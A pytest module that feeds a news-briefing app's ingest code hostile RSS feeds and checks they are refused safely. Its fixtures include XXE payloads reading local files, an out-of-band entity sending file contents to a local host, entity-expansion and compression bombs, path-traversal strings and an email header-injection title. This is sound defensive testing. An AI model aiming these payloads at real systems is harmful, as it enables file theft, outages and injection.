"""Hostile feeds from a local HTTP server: each one is marked with a clear reason, the run completes, other
sources' items all arrive, nothing from a local file leaks, memory stays bounded, nothing escapes output/.

One full pipeline run (in a subprocess, so its peak RSS can be measured) serves every hostile case plus a good
feed; focused tests then check ingest's functions one case at a time.
"""

from __future__ import annotations

import email
import email.policy
import json
import re
import sqlite3
import time
import tracemalloc
import unicodedata
import uuid
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from markupsafe import escape

from briefing import config, ingest, pipeline, render
from briefing.config import FetchSettings, Source
from briefing.errors import SourceError
from briefing.store import Store
from briefing.text import clean_html, fix_text, html_to_text
from tests.hostile_server import (
    HostileServer,
    conditional,
    decoded_outputs,
    dribble,
    gzip_bomb,
    hang,
    hang_up,
    huge,
    make_project,
    many_headers,
    raw,
    redirect,
    redirect_loop,
    rfc822,
    rss_feed,
    rss_item,
    run_subprocess,
    short_body,
    static,
    status,
    write_config,
)

FEEDS = Path(__file__).parent / "data" / "feeds"
NOW = datetime.now(UTC)
MEMORY_LIMIT_MB = 600

# five unrelated stories, so that no analysis could fold them into one
GOOD_TITLES = [
    "Harbour in Valparaiso reopens after the winter storm",
    "Parliament in Tallinn passes the new budget law",
    "Wheat harvest in Kansas beats every forecast",
    "Museum in Kyoto restores its ancient scrolls",
    "Marathon in Nairobi draws record entries",
]
ODD_TITLES = {
    "rtl": "عاجل: الرئيس يلتقي الوفد في القاهرة \u202eexe.txt",
    "zero-width": "Zero\u200bwidth\u200c and\u200d joiners\u2060 in a headline",
    "long": "Long headline " + "x" * 10_000,
    "emoji": "Emoji headline 🚀🔥 family 👩‍👩‍👧‍👦 flags 🇺🇦🇻🇪",
    "combining": "Zalgo Z̷̢͎̙a̴͓l̵g̶o̸ and " + "e\u0301" * 300,
    "traversal": "../../../../etc/passwd",
    "windows-traversal": "..\\..\\windows\\system32\\config",
    "encoded-traversal": "%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "header-injection": "Line one\r\nBcc: victim@example.org\r\nSubject: injected",
    "cjk-cyrillic": "中文标题 и русский заголовок 한국어",
}


def secret_file(folder: Path) -> tuple[Path, str]:
    marker = f"TOPSECRET-{uuid.uuid4().hex}"
    path = folder / "secret.txt"
    path.write_text(marker + "\n", encoding="utf-8")
    return path, marker


def xxe_feed(secret: Path) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
        '<rss version="2.0"><channel><title>x</title>'
        + rss_item("Leaked &xxe; here", "https://example.org/xxe", "Body &xxe;", raw_xml=True)
        + "</channel></rss>"
    ).encode()


def xxe_parameter_feed(secret: Path) -> bytes:
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE rss [<!ENTITY % file SYSTEM "file://{secret}"><!ENTITY % eval "<!ENTITY exfil SYSTEM \'http://127.0.0.1:9/?%file;\'>">%eval;]>\n'
        '<rss version="2.0"><channel><title>x</title>'
        + rss_item("Out of band &exfil;", "https://example.org/oob", raw_xml=True)
        + "</channel></rss>"
    ).encode()


def xxe_utf16_feed(secret: Path) -> bytes:
    text = (
        '<?xml version="1.0" encoding="utf-16"?>\n'
        f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
        '<rss version="2.0"><channel><title>x</title>'
        + rss_item("UTF-16 leak &xxe;", "https://example.org/xxe16", raw_xml=True)
        + "</channel></rss>"
    )
    return text.encode("utf-16")


def xinclude_feed(secret: Path) -> bytes:
    """No entities: an XInclude and file: links, which nothing may follow."""
    return (
        '<?xml version="1.0"?>\n<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>x</title>'
        f"<item><title>XInclude attempt</title><link>file://{secret}</link>"
        f'<description>Before <xi:include href="file://{secret}" parse="text"/> after</description>'
        f"<pubDate>{rfc822()}</pubDate></item>"
        f'<item><title>Relative base attempt</title><link xml:base="file:///">{secret}</link><pubDate>{rfc822()}</pubDate></item>'
        "</channel></rss>"
    ).encode()


def billion_laughs() -> bytes:
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?>\n<!DOCTYPE rss [' + "".join(lol) + "]>\n"
        '<rss version="2.0"><channel><title>x</title>'
        + rss_item("Laughs &lol9;", "https://example.org/lol", raw_xml=True)
        + "</channel></rss>"
    ).encode()


def quadratic_entities() -> bytes:
    """One big entity used many times (no nesting): the 'quadratic blowup' variant."""
    big = "A" * 50_000
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{big}">]>\n<rss version="2.0"><channel><title>x</title>'
        + rss_item("Quadratic " + "&a;" * 2000, "https://example.org/quad", raw_xml=True)
        + "</channel></rss>"
    ).encode()


def latin1_declared_utf8() -> bytes:
    return rss_feed(
        [
            rss_item(
                "Bogotá: niños y café en la región", "https://example.org/latin1", "Año nuevo en Medellín"
            )
        ],
        encoding="latin-1",
    )


def no_dates_or_links() -> bytes:
    return rss_feed(
        [
            rss_item("Undated item without a link", date=None),
            rss_item(None, None, "An entry with only a description and no title, link or date.", date=None),
            rss_item("Link is javascript", "javascript:alert(document.domain)", date=None),
            rss_item(None, None, None, date=None),
        ]
    )


def bad_dates() -> bytes:
    return rss_feed(
        [
            rss_item("Epoch-dated item", "https://example.org/epoch", date="Thu, 01 Jan 1970 00:00:00 +0000"),
            rss_item(
                "Future-dated item", "https://example.org/future", date=rfc822(NOW + timedelta(days=3650))
            ),
            rss_item("Year 9999 item", "https://example.org/y9999", date="Fri, 31 Dec 9999 23:59:59 +0000"),
            rss_item("Garbage date item", "https://example.org/garbage", date="yesterday-ish, around noon"),
            rss_item("Negative year item", "https://example.org/neg", date="Mon, 01 Jan -001 00:00:00 GMT"),
        ]
    )


def duplicate_guids() -> bytes:
    return rss_feed(
        [
            rss_item("Duplicate one", "https://example.org/d1", guid="same-guid"),
            rss_item("Duplicate one (again)", "https://example.org/d1-again", guid="same-guid"),
            rss_item("Duplicate one (third time)", "https://example.org/d1-third", guid="same-guid"),
            rss_item("Unique item beside duplicates", "https://example.org/d2", guid="other-guid"),
        ]
    )


def shadowing_guids() -> bytes:
    """A feed reusing the good feed's guids (listed first in the config) must not shadow the good feed's items."""
    return rss_feed(
        [
            rss_item(f"Shadow {n}", f"https://shadow.example/{n}", guid=f"good-{n}")
            for n in range(len(GOOD_TITLES))
        ]
    )


def good_feed() -> bytes:
    return rss_feed(
        [
            rss_item(
                t,
                f"https://good.example/story/{n}",
                f"Paragraph {n} of a well-formed feed.",
                guid=f"good-{n}",
            )
            for n, t in enumerate(GOOD_TITLES)
        ],
        title="Good feed",
    )


def odd_titles_feed() -> bytes:
    return rss_feed(
        [rss_item(t, f"https://odd.example/{k}", f"Body of the {k} item.") for k, t in ODD_TITLES.items()]
    )


def bad_charrefs() -> bytes:
    return rss_feed(
        [
            rss_item(
                "Surrogate &#xD800; and &#55296; refs",
                "https://example.org/sur",
                "NUL &#0; and &#x110000; and &#99999999999999;",
                raw_xml=True,
            ),
            rss_item("Fine refs &#233;&#x2019;", "https://example.org/fine", raw_xml=True),
        ]
    )


def quadratic_markup() -> bytes:
    return rss_feed(
        [rss_item("Unclosed tag soup", "https://example.org/soup", "<br " * 40_000 + "<p" * 40_000)]
    )


def mixed_encoding() -> bytes:
    return (FEEDS / "elnacional-talcual_2025-09-28_venezuela_es_mixed-encoding.xml").read_bytes()


def mojibake() -> bytes:
    return (FEEDS / "talcual_2025-10-03_venezuela_es_mojibake.xml").read_bytes()


@dataclass(frozen=True)
class Case:
    """One hostile source: how the server behaves, and what the brief must say about it."""

    name: str
    path: str
    behaviour: Callable[[Path], Any]  # secret path -> Behaviour
    status: str
    reason: str  # a fragment the reason must contain ('' = none required)
    items: int | None = None  # items that must arrive, if known


CASES = [
    Case("HTTP 404", "/404", lambda s: status(404), "error", "HTTP 404"),
    Case("HTTP 410", "/410", lambda s: status(410), "gone", "410"),
    Case("HTTP 500", "/500", lambda s: status(500), "error", "HTTP 500"),
    Case("HTTP 300 without a feed", "/300", lambda s: static(b"", 300), "error", "HTTP 300"),
    Case("Redirect loop", "/loop", lambda s: redirect_loop(), "error", "redirect"),
    Case("Redirect to a local file", "/to-file", lambda s: redirect(f"file://{s}"), "error", "not http(s)"),
    Case("Never finishes", "/hang", lambda s: hang(), "error", "timeout"),
    Case("Slow loris", "/dribble", lambda s: dribble(), "error", "timeout"),
    Case("50 MB body", "/huge", lambda s: huge(declare_length=False), "error", "size cap"),
    Case("50 MB announced", "/huge-announced", lambda s: huge(), "error", "size cap"),
    Case("Gzip bomb", "/gzip-bomb", lambda s: gzip_bomb(), "error", "size cap"),
    Case("Deflate bomb", "/deflate-bomb", lambda s: gzip_bomb(encoding="deflate"), "error", "size cap"),
    Case(
        "Gzip bomb in a gzip bomb",
        "/double-bomb",
        lambda s: gzip_bomb(encoding="gzip, gzip"),
        "error",
        "size cap",
    ),
    Case(
        "Broken gzip",
        "/bad-gzip",
        lambda s: static(
            b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"\xff" * 64, headers={"Content-Encoding": "gzip"}
        ),
        "error",
        "decompress",
    ),
    Case("Hang-up", "/hang-up", lambda s: hang_up(), "error", "closed the connection"),
    Case("Short body", "/short", lambda s: short_body(b"<rss", 10_000), "error", "broken"),
    Case("Too many headers", "/headers", lambda s: many_headers(), "error", "too many headers"),
    Case("Not HTTP", "/not-http", lambda s: raw(b"SSH-2.0-OpenSSH_9.0\r\n\r\n"), "error", "not HTTP"),
    Case(
        "HTML page",
        "/html",
        lambda s: static(
            b"<!DOCTYPE html><html><body><h1>Welcome</h1></body></html>", content_type="text/html"
        ),
        "error",
        "not a feed",
    ),
    Case(
        "Binary body",
        "/png",
        lambda s: static(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, content_type="image/png"),
        "error",
        "not a readable feed",
    ),
    Case("Empty body", "/empty", lambda s: static(b""), "error", "empty response"),
    Case(
        "Latin-1 declared UTF-8",
        "/latin1",
        lambda s: static(latin1_declared_utf8()),
        "warning",
        "declared as utf-8",
        1,
    ),
    Case("Mojibake", "/mojibake", lambda s: static(mojibake()), "ok", "", 12),
    Case("Mixed encoding", "/mixed", lambda s: static(mixed_encoding()), "ok", "", 16),
    Case("Empty channel", "/empty-channel", lambda s: static(rss_feed([])), "warning", "no items", 0),
    Case(
        "No dates or links",
        "/no-dates",
        lambda s: static(no_dates_or_links()),
        "ok",
        "without a usable http(s) link",
        3,
    ),
    Case(
        "Epoch and future dates",
        "/dates",
        lambda s: static(bad_dates()),
        "ok",
        "5 items without a usable date",
        5,
    ),
    Case("Duplicate guids", "/dups", lambda s: static(duplicate_guids()), "ok", "2 duplicate entries", 2),
    Case("Guids copied from another feed", "/shadow", lambda s: static(shadowing_guids()), "ok", "", 5),
    Case("Bad character references", "/charrefs", lambda s: static(bad_charrefs()), "ok", "", 2),
    Case("Tag soup", "/soup", lambda s: static(quadratic_markup()), "ok", "", 1),
    Case(
        "Bogus charset",
        "/charset",
        lambda s: static(
            rss_feed(
                rss_item(f"Charset item {n} about {t.split()[0].lower()}", f"https://charset.example/{n}")
                for n, t in enumerate(GOOD_TITLES)
            ),
            content_type="application/rss+xml; charset=x-no-such-charset",
        ),
        "warning",
        "x-no-such-charset",
        5,
    ),
    Case("XXE", "/xxe", lambda s: static(xxe_feed(s)), "error", "XXE"),
    Case("XXE parameter entity", "/xxe-oob", lambda s: static(xxe_parameter_feed(s)), "error", "XXE"),
    Case("XXE in UTF-16", "/xxe-16", lambda s: static(xxe_utf16_feed(s)), "error", "XXE"),
    Case(
        "XInclude and file links",
        "/xinclude",
        lambda s: static(xinclude_feed(s)),
        "ok",
        "without a usable http(s) link",
        2,
    ),
    Case("Billion laughs", "/lol", lambda s: static(billion_laughs()), "error", "billion laughs"),
    Case("Quadratic entity blowup", "/quadratic", lambda s: static(quadratic_entities()), "error", "entity"),
    Case("Odd titles", "/odd", lambda s: static(odd_titles_feed()), "ok", "", len(ODD_TITLES)),
]
GOOD = Case("Good feed", "/good", lambda s: static(good_feed()), "ok", "", len(GOOD_TITLES))


@dataclass(frozen=True)
class HostileRun:
    root: Path
    settings: config.Settings
    report: dict[str, Any]
    log: str
    marker: str
    brief: dict[str, Any]
    html: str
    before: set[Path]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Any:
    base = tmp_path_factory.mktemp("hostile")
    root = make_project(base / "proj")
    secret, marker = secret_file(base)
    with HostileServer() as srv:
        sources = []
        for case in [*CASES, GOOD]:  # hostile first: a feed listed earlier must not shadow a later one
            srv.route(case.path, case.behaviour(secret))
            sources.append({"name": case.name, "url": srv.url(case.path), "grade": "C"})
        # 2 s per read: slow enough that a busy machine does not turn a bomb or a 404 into a timeout
        cfg = write_config(root, sources, pdf=True, search=True, timeout=2.0)
        before = {p for p in base.rglob("*")}
        started = time.monotonic()
        result = run_subprocess(cfg)
        elapsed = time.monotonic() - started
    assert result.returncode == 0, result.stderr[-3000:]
    assert elapsed < 120, f"hostile run took {elapsed:.0f} s"
    settings = config.load(cfg, environ={})
    folder = Path(result.report["brief_dir"])
    brief = json.loads((folder / "brief.json").read_text(encoding="utf-8"))
    page = (folder / "brief.html").read_text(encoding="utf-8")
    return HostileRun(root, settings, result.report, result.stderr, marker, brief, page, before)


def _row(run: HostileRun, name: str) -> dict[str, Any]:
    rows = [s for s in run.brief["sources"] if s["name"] == name]
    assert len(rows) == 1, f"{name} not in the sources appendix"
    return rows[0]


def _stored_titles(run: HostileRun, source: str) -> list[str]:
    with sqlite3.connect(run.settings.output_dir / "briefing.db") as conn:
        return [
            r[0] for r in conn.execute("select title from items where source = ? order by title", (source,))
        ]


@pytest.mark.model
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_each_hostile_source_is_marked_with_its_reason(hostile_run: HostileRun, case: Case) -> None:
    row = _row(hostile_run, case.name)
    assert row["status"] == case.status, row
    assert case.reason.lower() in row["reason"].lower(), row
    if case.items is not None:
        assert row["items_seen"] == case.items, row
    # the appendix of the HTML brief shows the same status and reason
    assert escape(case.name) in hostile_run.html and escape(row["reason"]) in hostile_run.html
    # the run summary lists a failure once, with its reason; the log says why a source only warned
    failed = [f for f in hostile_run.report["failures"] if f.startswith(f"{case.name}: ")]
    assert failed == ([f"{case.name}: {row['reason']}"] if case.status in ("error", "gone") else [])
    if row["reason"] and case.status not in ("error", "gone"):
        assert f"source {case.name}" in hostile_run.log and row["reason"] in hostile_run.log


@pytest.mark.model
def test_the_run_completes_and_counts_failures(hostile_run: HostileRun) -> None:
    failing = [c for c in CASES if c.status in ("error", "gone")]
    assert hostile_run.report["sources_failed"] == len(failing)
    assert hostile_run.report["sources_ok"] == len(CASES) - len(failing) + 2  # + the good feed and the seeds
    assert "Traceback" not in hostile_run.log
    assert hostile_run.report["line"].startswith(f"briefing {hostile_run.brief['date']}")


@pytest.mark.model
def test_the_good_feed_arrives_whole(hostile_run: HostileRun) -> None:
    assert _row(hostile_run, GOOD.name)["status"] == "ok"
    assert _stored_titles(hostile_run, GOOD.name) == sorted(GOOD_TITLES)
    titles = {it["title"] for it in hostile_run.brief["items"]}
    assert set(GOOD_TITLES) <= titles
    for t in GOOD_TITLES:
        assert escape(t) in hostile_run.html
    seed = next(s for s in hostile_run.brief["sources"] if s["name"] == "seeds")
    assert seed["status"] == "ok" and seed["items_seen"] == 1


@pytest.mark.model
def test_damaged_text_is_repaired(hostile_run: HostileRun) -> None:
    latin1 = _stored_titles(hostile_run, "Latin-1 declared UTF-8")
    assert latin1 == ["Bogotá: niños y café en la región"]
    for name in ("Mojibake", "Mixed encoding"):
        titles = " ".join(_stored_titles(hostile_run, name))
        assert "Ã" not in titles and "Â" not in titles and "\ufffd" not in titles
        assert re.search("[áéíóúñ]", titles)
    refs = _stored_titles(hostile_run, "Bad character references")
    assert "Fine refs é'" in refs  # ftfy straightens curly quotes
    assert any(t.startswith("Surrogate \ufffd and \ufffd refs") for t in refs)


@pytest.mark.model
def test_nothing_from_a_local_file_leaks(hostile_run: HostileRun) -> None:
    marker = hostile_run.marker.encode()
    checked = 0
    for path, data in decoded_outputs(hostile_run.settings.output_dir):
        checked += 1
        assert marker not in data, f"secret leaked into {path}"
    assert checked > 10
    assert hostile_run.marker not in hostile_run.log
    for name in ("XInclude and file links",):
        for title in _stored_titles(hostile_run, name):
            assert "secret" not in title.lower()
    with sqlite3.connect(hostile_run.settings.output_dir / "briefing.db") as conn:
        urls = [r[0] for r in conn.execute("select url from items")]
    assert all(u == "" or u.startswith(("http://", "https://")) for u in urls)


@pytest.mark.model
def test_memory_stays_bounded(hostile_run: HostileRun) -> None:
    report = hostile_run.report
    assert 0 < report["maxrss_mb"] < MEMORY_LIMIT_MB, (report["maxrss_mb"], report["own_mb"], report["line"])


@pytest.mark.model
def test_database_is_sound(hostile_run: HostileRun) -> None:
    with sqlite3.connect(hostile_run.settings.output_dir / "briefing.db") as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        outcome = conn.execute("select outcome from runs order by id desc limit 1").fetchone()[0]
    assert outcome == "partial"


@pytest.mark.model
def test_odd_titles_render_in_every_format(hostile_run: HostileRun) -> None:
    stored = _stored_titles(hostile_run, "Odd titles")
    assert len(stored) == len(ODD_TITLES)
    assert all(len(t) <= 500 and "\n" not in t and "\r" not in t for t in stored)
    folder = Path(hostile_run.report["brief_dir"])
    text = (folder / "brief.txt").read_text(encoding="utf-8")
    for t in stored:
        assert escape(t) in hostile_run.html, t
        assert t in {it["title"] for it in hostile_run.brief["items"]}
    for fragment in (
        "عاجل",
        "🚀🔥",
        "👩‍👩‍👧‍👦",
        "中文标题",
        "../../../../etc/passwd",
        "x" * 400,
        unicodedata.normalize("NFC", "e\u0301" * 50),
    ):
        assert fragment in hostile_run.html and fragment in text, fragment
    assert "Bcc: victim@example.org Subject: injected" in hostile_run.html  # one line, never a header
    pdf = folder / "brief.pdf"
    assert pdf.read_bytes().startswith(b"%PDF-")


@pytest.mark.model
def test_nothing_is_written_outside_output(hostile_run: HostileRun) -> None:
    base = hostile_run.root.parent
    output = hostile_run.settings.output_dir.resolve()
    new = {p for p in base.rglob("*")} - hostile_run.before
    outside = sorted(str(p) for p in new if not p.resolve().is_relative_to(output) and p.resolve() != output)
    assert outside == []
    for p in output.rglob("*"):
        assert p.resolve().is_relative_to(output)
        assert "passwd" not in p.name and "system32" not in p.name and ".." not in p.name.replace("...", "")
    for t in ODD_TITLES.values():
        assert re.fullmatch(r"[a-z0-9-]{1,60}", render.slug(t))


@pytest.mark.model
def test_emails_carry_no_injected_headers(hostile_run: HostileRun) -> None:
    emls = sorted((hostile_run.settings.output_dir / "outbox").rglob("*.eml"))
    assert emls
    for eml in emls:
        raw = eml.read_bytes()
        head = raw.split(b"\r\n\r\n", 1)[0] if b"\r\n\r\n" in raw else raw.split(b"\n\n", 1)[0]
        assert not re.search(rb"^(Bcc|Cc):", head, re.M | re.I)
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert len(msg.get_all("To") or []) == 1 and len(msg.get_all("Subject") or []) == 1
        assert str(msg["To"]).endswith("<analyst@example.org>")
        for key, value in msg.items():
            assert "\n" not in str(value) and "\r" not in str(value), key


TRAVERSALS = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "%2e%2e%2f%2e%2e%2fetc",
    "..",
    ".",
    "",
    "a/../../b",
    "CON",
    "nul.txt",
    "\u202eexe.txt",
    "x" * 5000,
    "line\nbreak",
    "\x00nul",
]


@pytest.mark.parametrize("text", TRAVERSALS, ids=range(len(TRAVERSALS)))
def test_file_names_from_hostile_text_stay_inside(tmp_path: Path, text: str) -> None:
    """Slugs (theatre pages), outbox names (recipient addresses) and inside() never leave their folder."""
    from briefing.errors import BriefingError
    from briefing.files import inside
    from briefing.outbox import eml_name

    root = tmp_path / "out"
    root.mkdir()
    assert re.fullmatch(r"[a-z0-9-]{1,60}", render.slug(text))
    name = eml_name("2026-01-04", f"{text}@example.org")
    assert "/" not in name and "\\" not in name and len(name) < 255
    assert inside(root, name).parent == root.resolve()
    try:
        target = inside(root, text)
    except (BriefingError, ValueError):
        return  # refused
    assert target.resolve().is_relative_to(root.resolve())


# --- focused tests on ingest's functions ------------------------------------------------------------------------

FAST = FetchSettings(timeout=0.5, max_bytes=2_000_000)  # for the cases that must time out
SURE = FetchSettings(timeout=2.0, max_bytes=2_000_000)  # for the cases that must fail for another reason


@pytest.fixture(scope="module")
def server() -> Any:
    with HostileServer() as srv:
        yield srv


def _source(srv: HostileServer, path: str) -> Source:
    return Source(name=path.strip("/"), url=srv.url(path))


def _settings(tmp_path: Path, **fetch: Any) -> config.Settings:
    root = tmp_path / "p"
    if not root.exists():
        make_project(root)
    settings = config.load(write_config(root, []), environ={})
    return replace(settings, fetch=replace(settings.fetch, **fetch)) if fetch else settings


@pytest.mark.parametrize(
    "case",
    [c for c in CASES if c.status == "error" and "XXE" not in c.name and c.name != "Slow loris"],
    ids=lambda c: c.name,
)
def test_read_source_turns_each_failure_into_a_reason(
    server: HostileServer, case: Case, tmp_path: Path
) -> None:
    server.route(case.path, case.behaviour(tmp_path / "nothing"))
    timeout = FAST.timeout if case.reason == "timeout" else SURE.timeout
    started = time.monotonic()
    res = ingest.read_source(
        _source(server, case.path), _settings(tmp_path, timeout=timeout, max_bytes=SURE.max_bytes), {}
    )
    assert res.status.status == "error" and case.reason.lower() in res.status.reason.lower(), res.status
    assert res.items == ()
    assert time.monotonic() - started < timeout * ingest.DEADLINE_FACTOR + 1.5


def test_a_slow_loris_is_cut_at_the_deadline(server: HostileServer) -> None:
    server.route("/dribble-unit", dribble(interval=0.15))
    started = time.monotonic()
    with pytest.raises(SourceError, match="timeout"):
        ingest.fetch(server.url("/dribble-unit"), FAST)
    assert (
        ingest.DEADLINE_FACTOR * FAST.timeout
        <= time.monotonic() - started
        < ingest.DEADLINE_FACTOR * FAST.timeout + 3.0
    )


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "gzip, gzip"])
def test_a_compression_bomb_is_stopped_at_the_cap_without_inflating(
    server: HostileServer, encoding: str
) -> None:
    server.route("/bomb-unit", gzip_bomb(1 << 30, encoding))
    tracemalloc.start()
    try:
        with pytest.raises(SourceError, match="size cap"):
            ingest.fetch(server.url("/bomb-unit"), SURE)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * SURE.max_bytes + 8_000_000  # the cap (and a copy), never the gigabyte


def test_a_huge_body_is_streamed_not_loaded(server: HostileServer) -> None:
    server.route("/huge-unit", huge(declare_length=False))
    tracemalloc.start()
    try:
        with pytest.raises(SourceError, match="size cap"):
            ingest.fetch(server.url("/huge-unit"), SURE)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * SURE.max_bytes + 8_000_000


def test_conditional_get_sends_validators_and_gets_not_modified(
    server: HostileServer, tmp_path: Path
) -> None:
    server.route(
        "/etag", conditional(good_feed(), etag='"abc123"', last_modified="Tue, 02 Dec 2025 10:00:00 GMT")
    )
    settings = _settings(tmp_path)
    first = ingest.read_source(_source(server, "/etag"), settings, {})
    assert first.status.status == "ok" and len(first.items) == len(GOOD_TITLES)
    assert (first.etag, first.last_modified) == ('"abc123"', "Tue, 02 Dec 2025 10:00:00 GMT")
    state = {"etag": first.etag, "last_modified": first.last_modified}
    second = ingest.read_source(_source(server, "/etag"), settings, state)
    assert second.status.status == "not-modified" and second.items == ()
    assert "304" in second.status.reason
    sent = server.hits("/etag")[-1].headers
    assert sent.get("If-None-Match") == '"abc123"'
    assert sent.get("If-Modified-Since") == "Tue, 02 Dec 2025 10:00:00 GMT"
    assert "If-None-Match" not in server.hits("/etag")[0].headers


@pytest.mark.model
def test_conditional_get_and_410_across_two_pipeline_runs(tmp_path: Path) -> None:
    root = make_project(tmp_path / "proj")
    with HostileServer() as srv:
        srv.route("/etag", conditional(good_feed()))
        srv.route("/gone", status(410))
        srv.route("/bad-validators", static(odd_titles_feed(), headers={"ETag": "x" * 5000}))
        cfg = write_config(
            root,
            [
                {"name": "Conditional", "url": srv.url("/etag")},
                {"name": "Gone", "url": srv.url("/gone")},
                {"name": "Huge validator", "url": srv.url("/bad-validators")},
            ],
        )
        settings = config.load(cfg, environ={})
        first = pipeline.run(settings, send=False)
        second = pipeline.run(settings, send=False)
        assert len(srv.hits("/gone")) == 1  # a feed that said 410 is not asked again
        conditional_hits = srv.hits("/etag")
    assert first.failures == ("Gone: HTTP 410 Gone: the feed was removed; it will not be fetched again",)
    assert len(second.failures) == 1 and second.failures[0].startswith("Gone: ")
    assert conditional_hits[-1].headers.get("If-None-Match") == '"v1"'
    assert conditional_hits[-1].headers.get("If-Modified-Since") == "Wed, 01 Jan 2025 00:00:00 GMT"
    folder = settings.output_dir / "briefs" / first.date.isoformat()
    data = json.loads((folder / "brief.json").read_text(encoding="utf-8"))
    rows = {s["name"]: s for s in data["sources"]}
    if not second.unchanged:
        assert rows["Conditional"]["status"] == "not-modified"
    assert rows["Gone"]["status"] == "gone"
    store = Store(settings.database_url)
    try:
        assert store.source_state("Conditional")["status"] == "not-modified"
        assert store.source_state("Huge validator")["etag"] is None  # never stored, never sent back
    finally:
        store.close()


@pytest.mark.parametrize(
    ("name", "body", "refused"),
    [
        ("system entity", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r/>', "XXE"),
        ("public entity", b'<!DOCTYPE r [<!ENTITY x PUBLIC "-//x//y" "http://127.0.0.1:9/x">]><r/>', "XXE"),
        ("lower-case keyword", b'<!DOCTYPE r [<!entity x system "file:///etc/passwd">]><r/>', "XXE"),
        ("parameter entity", b'<!DOCTYPE r [<!ENTITY % p "x"> %p;]><r/>', "billion laughs"),
        ("nested entities", b'<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><r/>', "billion laughs"),
        (
            "many entities",
            b"<!DOCTYPE r [" + b"".join(b'<!ENTITY e%d "x">' % i for i in range(60)) + b"]><r/>",
            "60 XML entities",
        ),
        (
            "utf-16 with BOM",
            '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r/>'.encode("utf-16"),
            "XXE",
        ),
        (
            "utf-16-be without BOM",
            '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///x">]><r/>'.encode("utf-16-be"),
            "XXE",
        ),
        ("utf-32", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///x">]><r/>'.encode("utf-32"), "XXE"),
        ("quoted > in a value", b'<!DOCTYPE r [<!ENTITY a "x>y"><!ENTITY b SYSTEM "file:///x">]><r/>', "XXE"),
        (
            "netscape DTD",
            b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss/>',
            "",
        ),
        ("one oversized entity", b'<!DOCTYPE r [<!ENTITY a "' + b"A" * 5000 + b'">]><r/>', "oversized"),
        ("one character entity", b'<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]><rss/>', ""),
        ("entity text after the root", b'<rss><title>&lt;!ENTITY x SYSTEM "file:///x"&gt;</title></rss>', ""),
    ],
)
def test_refused_dtd(name: str, body: bytes, refused: str) -> None:
    reason = ingest.refused_dtd(body)
    assert (refused in reason) if refused else reason == "", (name, reason)


def test_a_harmless_character_entity_still_parses() -> None:
    body = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>\n<rss version="2.0"><channel><title>t</title>'
        b"<item><title>Entity&nbsp;space</title><link>https://example.org/e</link></item></channel></rss>"
    )
    items, status_, _, _ = ingest.parse_feed(body, Source(name="e", url="https://example.org/"))
    assert status_ in ("ok", "warning") and [it.title for it in items] == ["Entity space"]


def test_an_entry_flood_is_cut_to_max_entries() -> None:
    n = ingest.MAX_ENTRIES + 3000
    body = rss_feed(rss_item(f"Flood {i}", f"https://flood.example/{i}", date=None) for i in range(n))
    started = time.monotonic()
    items, st, reason, _ = ingest.parse_feed(body, Source(name="flood", url="https://flood.example/"))
    assert len(items) == ingest.MAX_ENTRIES and items[-1].title == f"Flood {ingest.MAX_ENTRIES - 1}"
    assert st == "warning" and f"only the first {ingest.MAX_ENTRIES} of {n} entries" in reason
    assert time.monotonic() - started < 30


SOUPS = {
    "unclosed br": "<br " * 40_000,
    "unclosed p": "<p" * 40_000,
    "unclosed attribute": "<div class=" * 30_000,
    "titles": "<title>" * 40_000,
    "nested div": "<div>" * 50_000,
    "nested section": "<section>" * 50_000,
    "nested ul": "<ul>" * 50_000,
    "nested blockquote": "<blockquote>" * 30_000,
    "line breaks": "<br>" * 200_000,
}


@pytest.mark.parametrize("soup", SOUPS.values(), ids=SOUPS.keys())
def test_tag_soup_is_linear(soup: str) -> None:
    """Nested block tags make the HTML5 tree builder quadratic; ingest keeps such markup away from it (CPU time of
    this process: seconds of a quadratic parse, a small fraction of a second linear)."""
    started = time.process_time()
    html_to_text(soup)
    clean_html(soup)
    assert time.process_time() - started < 2.0


def test_a_feed_of_nested_markup_parses_in_time_that_grows_linearly() -> None:
    """Five entries of deeply nested markup parse; four times the nesting costs about four times the CPU, not
    sixteen (CPU time of this process, so other work on the machine does not decide the test)."""

    def cpu_seconds(depth: int) -> float:
        entries = [
            rss_item(f"Nested {n}", f"https://nest.example/{n}", "<div><ul><section>" * depth)
            for n in range(5)
        ]
        body = rss_feed(entries)
        started = time.process_time()
